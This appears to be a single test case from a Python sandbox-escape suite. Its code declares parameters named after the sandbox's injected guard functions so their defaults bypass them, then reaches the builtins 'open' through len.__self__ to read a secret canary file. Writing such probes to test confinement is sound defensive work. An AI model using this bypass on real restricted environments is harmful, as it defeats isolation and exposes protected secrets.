# T37: Parameters that bear the names of injected guards.
# aim: secret
# sealed: view
# confined: landlock
# process: nothing
def reach(_getattr_=getattr, _write_=None, /, *, _getitem_=None):
    return _getattr_(_getattr_(len, "__self__"), "open")
print(reach()(canary["secret"]).read())
